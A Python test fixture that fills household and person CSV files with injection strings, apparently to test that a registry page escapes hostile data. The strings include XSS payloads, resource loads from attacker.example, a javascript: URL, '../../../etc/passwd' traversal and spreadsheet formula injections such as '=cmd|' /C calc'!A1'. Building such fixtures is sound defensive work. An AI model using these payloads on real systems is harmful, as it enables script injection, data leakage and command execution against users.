"""A registry whose every text is an attack on the page that shows it."""

from __future__ import annotations

import csv
from collections.abc import Sequence
from pathlib import Path

ATTACKS = (
    # Scripts, also where a title, a style, a script or an attribute would end.
    "<script>document.title='hit'</script>",
    "</title><script>document.title='hit'</script>",
    "</script><script>document.title='hit'</script>",
    "</textarea></svg></table><script>document.title='hit'</script>",
    "</style><script>document.title='hit'</script>",
    "\"]}</script><script>document.title='hit'</script>",
    "<ScRiPt>document.title='hit'</sCrIpT>",
    # Handlers of events.
    '"><img src=x onerror="document.title=\'hit\'">',
    "<svg onload=document.title='hit'>",
    "' onmouseover='document.title=1' autofocus onfocus='document.title=\"hit\"' x='",
    "<details open ontoggle=document.title='hit'>",
    "<math><mtext><style><img src onerror=document.title='hit'>",
    # Styles.
    "<style>body{display:none}</style>",
    "</style><style>*{background:url(http://attacker.example/s)}",
    '" style="position:fixed;inset:0;background:red" x="',
    "url(http://attacker.example/x)",
    "@import 'http://attacker.example/x.css';",
    # Addresses.
    "<a href=\"javascript:document.title='hit'\">click</a>",
    "javascript:document.title='hit'",
    "<iframe src='http://attacker.example/'></iframe>",
    "<base href='http://attacker.example/'>",
    "<meta http-equiv=refresh content='0;url=http://attacker.example/'>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "../../../etc/passwd",
    "#\" onclick=\"document.title='hit'",
    # Templates and placeholders.
    "{{ 7 * 7 }}{% raw %}",
    "{0}{message}%s$low_income_line",
    # Direction and invisible characters.
    "\u202eevil\u202c",
    "\u2066\u2067x",
    "\u200fabc\u200e",
    "a\u0000b\u0007c\u2028d",
    # Cells of a workbook.
    "=cmd|' /C calc'!A1",
    "+1+cmd|' /C calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A1",
    '=HYPERLINK("http://attacker.example/","x")',
    # Marks that end something.
    "<!-- x",
    "]]><x>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "a" * 3000,
)

_HOMES = (
    "household_id", "area_code", "county_name", "township_name", "village_name", "head_name", "phone",
    "household_type", "monitor_category",
)  # fmt: skip
_PEOPLE = (
    "person_id", "household_id", "name", "id_number", "relation", "student_status", "health", "labour_ability",
    "birth_date",
)  # fmt: skip


def hostile_registry(folder: Path, attacks: Sequence[str] = ATTACKS) -> Path:
    """Write it: each attack is a household's number, names, codes and place, and a person's number, name and rest.

    The third table, posts, has attacks for numbers alone, so that all of its rows are set aside.
    """
    folder.mkdir()
    attacks = [attack.replace("\0", "") for attack in attacks]
    _write(
        folder / "households.csv",
        _HOMES,
        [(f"{one}{place}", "139901101001", *(one for _ in _HOMES[2:])) for place, one in enumerate(attacks)],
    )
    _write(
        folder / "persons.csv",
        _PEOPLE,
        [(f"{one}{place}", f"{one}{place}", *(one for _ in _PEOPLE[2:])) for place, one in enumerate(attacks)],
    )
    _write(folder / "posts.csv", ("post_id", "person_id", "post_type"), [("", one, one) for one in attacks])
    return folder


def _write(path: Path, header: Sequence[str], rows: Sequence[Sequence[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([header, *rows])
